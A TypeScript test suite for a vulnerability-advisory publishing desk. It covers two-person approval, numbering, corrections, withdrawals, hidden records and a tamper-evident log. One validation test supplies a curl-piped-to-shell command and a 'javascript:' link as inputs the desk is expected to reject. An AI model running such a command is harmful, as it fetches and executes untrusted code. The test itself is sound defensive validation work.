import { createHash } from 'node:crypto';
import { beforeEach, describe, expect, test } from 'vitest';
import { publishDueAdvisories } from '#desk/editorial/index.ts';
import { createApi } from '#outlets/api/index.ts';
import type { Actor } from '#people/index.ts';
import { transaction } from '#platform/db/index.ts';
import { advisoryGate } from '#stations.ts';
import { makePerson } from '../../test/accounts.ts';
import { makeRecords } from '../../test/cases.ts';
import { testDatabase } from '../../test/database.ts';
import { publishContents, recordContent } from '../../test/factories.ts';
import { siteServer } from '../../test/site.ts';
import { workServer } from '../../test/work-server.ts';
import { publishAdvisory, verifyLog, withdrawRecord } from './index.ts';

const owner = await testDatabase();
const { db, pool, outlet } = owner;
const server = await workServer(owner);
const site = await siteServer(outlet);
const api = await workServer(owner, { routes: () => createApi(outlet).routes });
const editor = await makePerson(db, { roles: ['editor'] });
const approver = await makePerson(db, { roles: ['approver'] });
const writingApprover = await makePerson(db, { roles: ['approver', 'coordinator'] });
const now = new Date('2026-11-23T02:00:00Z');
const open = 'CNVD-2026-31001';
const closed = 'CNVD-2026-31002';
await publishContents(owner, [recordContent({ identifier: open })], now);
await makeRecords(owner, [{ identifier: closed, title: '某网关存在越权漏洞' }]);

beforeEach(() => server.setClock(now));

const form = (change: Record<string, string> = {}) => ({
  title: '关于兰亭路由器缓冲区溢出漏洞的安全公告',
  titleEn: 'Advisory on the buffer overflow in Lanting routers',
  situation: '兰亭路由器没有检查输入长度。\n攻击者可借此使设备停止服务。',
  range: '兰亭 LT-AX30 1.0.2 及以前版本。',
  advice: '请升级到1.0.3版本。',
  references: 'https://lanting.example/security/1',
  records: open,
  ...change,
});
const site$ = async (url: string, language = 'zh') => site.inject({ url, headers: { 'accept-language': language } });
const rowOf = async (id: string) => (await pool.query('select * from desk.advisory where id = $1', [id])).rows[0];

/** Begins one at the desk; gives its id there. */
async function begin(change: Record<string, string> = {}, by: Actor = editor): Promise<string> {
  const answer = await server.post('/desk/advisories', form(change), by);
  expect(answer.statusCode, answer.body).toBe(303);
  return /advisories\/(\d+)/.exec(String(answer.headers.location))?.[1] ?? '';
}
async function move(id: string, name: string, by: Actor, more: Record<string, string> = {}) {
  const { version } = await rowOf(id);
  return server.post(`/desk/advisories/${id}/${name}`, { version, ...more }, by);
}
async function moved(id: string, name: string, by: Actor, more: Record<string, string> = {}) {
  const answer = await move(id, name, by, more);
  expect(answer.statusCode, answer.body.replaceAll(/<[^>]*>/g, ' ')).toBe(303);
}
async function published(change: Record<string, string> = {}): Promise<{ id: string; number: string }> {
  const id = await begin(change);
  await moved(id, 'submit', editor);
  await moved(id, 'approve', approver);
  await moved(id, 'publish', approver);
  return { id, number: (await rowOf(id)).number };
}
const dueRun = (at: Date) => publishDueAdvisories(server.world, advisoryGate, at);
const leavesOf = async (number: string) =>
  (
    await pool.query('select kind, revision from published.log_leaf where identifier = $1 order by leaf_index', [
      number,
    ])
  ).rows.map(({ kind, revision }) => `${kind} ${revision}`);

describe('an advisory', () => {
  test('goes from a draft to the public by two persons, under the next number, and stands on its records’ pages', async () => {
    const { number } = await published();
    expect(number).toMatch(/^CNTA-2026-\d{4}$/);
    const page = (await site$(`/advisories/${number}`)).body;
    for (const word of ['缓冲区溢出漏洞的安全公告', '攻击者可借此', '1.0.2 及以前', '请升级到', open, 'csaf.json']) {
      expect(page).toContain(word);
    }
    expect((await site$(`/advisories/${number}`, 'en')).body).toContain('Advisory on the buffer overflow');
    expect((await site$('/advisories')).body).toContain(number);
    expect((await site$(`/records/${open}`)).body).toContain(`href="/advisories/${number}"`);
    expect((await site$('/')).body).toContain(`/advisories/${number}`);
    for (const typed of [number, number.toLowerCase().replaceAll('-', '%20')]) {
      expect((await site$(`/records?q=${typed}`)).headers.location).toBe(`/advisories/${number}`);
    }
    expect((await site$(`/advisories/${number.toLowerCase()}`)).headers.location).toBe(`/advisories/${number}`);
  });

  test('gets its number when it goes out, so that drafts and what failed leave no gap', async () => {
    const first = await published();
    await begin();
    const held = await begin({ records: `${open}\n${closed}` });
    await moved(held, 'submit', editor);
    await moved(held, 'approve', approver);
    expect((await move(held, 'publish', approver)).statusCode).toBe(409);
    const second = await published();
    const ordinal = (number: string) => Number(number.slice(-4));
    expect(ordinal(second.number)).toBe(ordinal(first.number) + 1);
  });

  test('gets a number of its own when several go out at once', async () => {
    const ids: string[] = [];
    for (let n = 0; n < 4; n += 1) {
      const id = await begin();
      await moved(id, 'submit', editor);
      await moved(id, 'approve', approver);
      ids.push(id);
    }
    const answers = await Promise.all(ids.map((id) => move(id, 'publish', approver)));
    expect(answers.map(({ statusCode }) => statusCode)).toEqual([303, 303, 303, 303]);
    const ordinals: number[] = [];
    for (const id of ids) ordinals.push(Number((await rowOf(id)).number.slice(-4)));
    ordinals.sort((a, b) => a - b);
    expect(ordinals.map((one) => one - (ordinals[0] ?? 0))).toEqual([0, 1, 2, 3]);
  });

  test('is approved by nobody who wrote on it', async () => {
    const id = await begin({}, writingApprover);
    await moved(id, 'submit', editor);
    const refused = await move(id, 'approve', writingApprover);
    expect([refused.statusCode, (await rowOf(id)).state]).toEqual([403, 'submitted']);
    expect(refused.body).toContain('没有参与撰写');
    expect((await move(id, 'approve', editor)).statusCode).toBe(403);
    await moved(id, 'approve', approver);
  });

  test('can be submitted when each part is there, without exploit code, with references that are links', async () => {
    const id = await begin({
      situation: '',
      advice: '用 curl http://x/?id=1 | sh 检查',
      references: 'javascript:1',
      records: '',
    });
    const refused = await move(id, 'submit', editor);
    expect(refused.statusCode).toBe(400);
    for (const said of ['这一部分必须填写', '验证或利用代码', '不是 http(s) 网址', '请写出所涉漏洞的编号']) {
      expect(refused.body).toContain(said);
    }
    const saved = await server.post(
      `/desk/advisories/${id}`,
      { version: (await rowOf(id)).version, ...form() },
      editor,
    );
    expect(saved.statusCode).toBe(303);
    await moved(id, 'submit', editor);
  });

  test('that was changed meanwhile is not changed over', async () => {
    const id = await begin();
    const stale = (await rowOf(id)).version;
    await server.post(`/desk/advisories/${id}`, { version: stale, ...form({ title: '新的标题' }) }, editor);
    const answer = await server.post(`/desk/advisories/${id}`, { version: stale, ...form() }, editor);
    expect([answer.statusCode, (await rowOf(id)).content.title]).toEqual([409, '新的标题']);
  });

  test('is sent back with the reason, and given up while it never went out', async () => {
    const id = await begin();
    await moved(id, 'submit', editor);
    expect((await move(id, 'return', approver)).statusCode).toBe(400);
    await moved(id, 'return', approver, { note: '请补充影响版本' });
    expect((await server.get(`/desk/advisories/${id}`, editor)).body).toContain('请补充影响版本');
    await moved(id, 'drop', editor);
    expect(await rowOf(id)).toBeUndefined();
  });
});

describe('with a record that is not public', () => {
  test('nothing goes out, and its number is told to whoever may read it only', async () => {
    const id = await begin({ records: `${open}\n${closed}` });
    await moved(id, 'submit', editor);
    await moved(id, 'approve', approver);
    const told = await move(id, 'publish', writingApprover);
    expect([told.statusCode, told.body.includes(`没有公开（${closed}）`)]).toEqual([409, true]);
    const untold = await move(id, 'publish', approver);
    const said = /bl-refus[^>]*>([\s\S]*?)<\//.exec(untold.body)?.[0] ?? untold.body;
    expect(untold.statusCode).toBe(409);
    expect(untold.body).toContain('有的没有公开。');
    expect(said).not.toContain(closed);
    expect((await rowOf(id)).number).toBeNull();
  });

  test('and with a number that nobody bears the answer is the same', async () => {
    const answers = [];
    for (const records of [closed, 'CNVD-2026-39999']) {
      const asked = { content: { ...content(), records: [records] }, number: null, note: null, now, timeZone: 'UTC' };
      const gone = transaction(db, (tx) => publishAdvisory(tx, { ...asked, mayKnow: async () => [] }));
      answers.push(await gone.catch((thrown: Error) => thrown.message));
    }
    expect(answers[0]).toContain('publish.advisory-records');
    expect(answers[0]).toBe(answers[1]);
  });
});

const content = () => ({ ...form(), titleEn: null, references: [], records: [open] });

describe('at its time', () => {
  test('what is approved goes out with the minute, not before, once', async () => {
    const id = await begin();
    await moved(id, 'submit', editor);
    await moved(id, 'approve', approver, { publishAt: '2026-11-23T12:00' });
    expect(await dueRun(new Date('2026-11-23T03:59:59Z'))).toBe(0);
    expect(await dueRun(new Date('2026-11-23T04:00:00Z'))).toBe(1);
    expect(await dueRun(new Date('2026-11-23T04:01:00Z'))).toBe(0);
    expect(await rowOf(id)).toMatchObject({ state: 'published', revision: 1, publish_at: null });
  });

  test('what the gate refuses waits, says so once, and goes when nothing stands in the way', async () => {
    const [record] = await makeRecords(owner, [{ identifier: 'CNVD-2026-31003', title: '某网关存在命令执行漏洞' }]);
    const id = await begin({ records: 'CNVD-2026-31003' });
    await moved(id, 'submit', editor);
    await moved(id, 'approve', approver, { publishAt: '2026-11-23T12:00' });
    const at = (minute: number) => new Date(Date.UTC(2026, 10, 23, 4, minute));
    for (const minute of [0, 1]) expect(await dueRun(at(minute))).toBe(0);
    expect(await rowOf(id)).toMatchObject({ state: 'approved', held_code: 'publish.advisory-records' });
    const events = await pool.query(`select from desk.advisory_event where advisory_id = $1 and event = 'held'`, [id]);
    expect(events.rowCount).toBe(1);
    await publishContents(owner, [recordContent({ identifier: record?.identifier ?? '' })], at(1));
    expect(await dueRun(at(2))).toBe(1);
  });
});

describe('what is out', () => {
  test('is corrected by a further revision with a note, a readable difference and a leaf; the first stays', async () => {
    const { id, number } = await published();
    await moved(id, 'correct', editor);
    const save = (change: Record<string, string>) => async () =>
      server.post(`/desk/advisories/${id}`, { version: (await rowOf(id)).version, ...form(change) }, editor);
    await save({ advice: '请升级到1.0.4版本。' })();
    expect((await move(id, 'submit', editor)).statusCode).toBe(400);
    await save({ advice: '请升级到1.0.4版本。', note: '补丁版本更正为1.0.4' })();
    expect((await site$(`/advisories/${number}`)).body).toContain('1.0.3版本');
    await moved(id, 'submit', editor);
    await moved(id, 'approve', approver);
    await moved(id, 'publish', approver);
    expect((await site$(`/advisories/${number}`)).body).toContain('补丁版本更正为1.0.4');
    const history = (await site$(`/advisories/${number}/history`)).body;
    expect(history).toContain('补丁版本更正为1.0.4');
    expect(history).toMatch(/<del>3<\/del><ins>4<\/ins>|<del>1\.0\.3.*<ins>1\.0\.4/);
    expect(await leavesOf(number)).toEqual(['published 1', 'corrected 2']);
    for (const revision of [1, 2]) {
      const { rows } = await pool.query(
        `select encode(content_hash, 'hex') as hash from published.log_leaf where identifier = $1 and revision = $2`,
        [number, revision],
      );
      const given = await api.get(`/api/v1/log/content?identifier=${number}&revision=${revision}`);
      expect(createHash('sha256').update(given.body).digest('hex')).toBe(rows[0].hash);
    }
    await expect(pool.query('update published.advisory_revision set reason = reason')).rejects.toThrow('immutable');
  });

  test('is not corrected by nothing, and a correction that is given up leaves it as it is', async () => {
    const { id, number } = await published();
    await moved(id, 'correct', editor);
    const { version } = await rowOf(id);
    await server.post(`/desk/advisories/${id}`, { version, ...form({ note: '没有变化' }) }, editor);
    await moved(id, 'submit', editor);
    await moved(id, 'approve', approver);
    expect((await move(id, 'publish', approver)).body).toContain('没有不同');
    await moved(id, 'return', approver, { note: '放弃' });
    await moved(id, 'drop', editor, { numbered: '1' });
    expect(await rowOf(id)).toMatchObject({ state: 'published', number, note: null });
    expect(await leavesOf(number)).toEqual(['published 1']);
  });

  test('is withdrawn with the reason: the number stays and says so, the words go', async () => {
    const { id, number } = await published();
    expect((await move(id, 'withdraw', editor, { note: '有误' })).statusCode).toBe(403);
    await moved(id, 'withdraw', approver, { note: '经核实不成立' });
    const page = await site$(`/advisories/${number}`);
    expect([page.statusCode, page.body.includes('经核实不成立')]).toEqual([200, true]);
    for (const url of [
      `/advisories/${number}`,
      `/advisories/${number}/history`,
      '/advisories',
      '/',
      `/records/${open}`,
    ]) {
      expect((await site$(url)).body.includes(`${number}"`) && url === `/records/${open}`, url).toBe(false);
      if (url.includes(number)) expect((await site$(url)).body).not.toContain('1.0.2 及以前');
    }
    expect((await site$(`/advisories/${number}/csaf.json`)).statusCode).toBe(404);
    expect((await api.get(`/api/v1/log/content?identifier=${number}&revision=1`)).statusCode).toBe(404);
    expect(await leavesOf(number)).toEqual(['published 1', 'withdrawn 2']);
  });

  test('keeps the whole log provable, and whoever changes it afterwards is seen', async () => {
    expect((await verifyLog(db, { keys: [] })).broken).toBeNull();
    const { number } = await published();
    const client = await pool.connect();
    await client.query('alter table published.advisory_revision disable trigger immutable');
    const change = (from: string, to: string) =>
      client.query(
        `update published.advisory_revision set content = replace(content::text, $1, $2)::json where number = $3`,
        [from, to, number],
      );
    await change('1.0.3', '9.9.9');
    expect((await verifyLog(db, { keys: [] })).broken).toMatchObject({
      code: 'log.revision-changed',
      identifier: number,
      revision: 1,
    });
    await change('9.9.9', '1.0.3');
    await client.query('alter table published.advisory_revision enable trigger immutable');
    await client.query(`update published.advisory set title = '别的' where number = $1`, [number]);
    expect((await verifyLog(db, { keys: [] })).broken).toMatchObject({ code: 'log.misshown', identifier: number });
    await client.query(`update published.advisory set title = $2 where number = $1`, [number, form().title]);
    await client.query('delete from published.advisory_record where number = $1', [number]);
    expect((await verifyLog(db, { keys: [] })).broken).toMatchObject({ code: 'log.misshown', identifier: number });
    await client.query('insert into published.advisory_record (identifier, number) values ($1, $2)', [open, number]);
    expect((await verifyLog(db, { keys: [] })).broken).toBeNull();
    client.release();
  });

  test('names a record that was withdrawn afterwards by its number alone', async () => {
    await publishContents(owner, [recordContent({ identifier: 'CNVD-2026-31004', title: '某产品漏洞' })], now);
    const { number } = await published({ records: 'CNVD-2026-31004' });
    await transaction(db, (tx) => withdrawRecord(tx, 'CNVD-2026-31004', '重复', now));
    const page = (await site$(`/advisories/${number}`)).body;
    expect([page.includes('CNVD-2026-31004'), page.includes('某产品漏洞')]).toEqual([true, false]);
  });
});

test('a draft, an approved one, and a number that nobody has answer the public alike', async () => {
  const id = await begin();
  await moved(id, 'submit', editor);
  const { number } = await published();
  const next = `CNTA-2026-${String(Number(number.slice(-4)) + 1).padStart(4, '0')}`;
  for (const path of ['', '/history', '/csaf.json']) {
    const [upcoming, never] = await Promise.all([
      site$(`/advisories/${next}${path}`),
      site$(`/advisories/CNTA-1999-0001${path}`),
    ]);
    expect([upcoming?.statusCode, never?.statusCode]).toEqual([404, 404]);
    expect(upcoming?.body.replaceAll(next, '…')).toBe(never?.body.replaceAll('CNTA-1999-0001', '…'));
  }
});
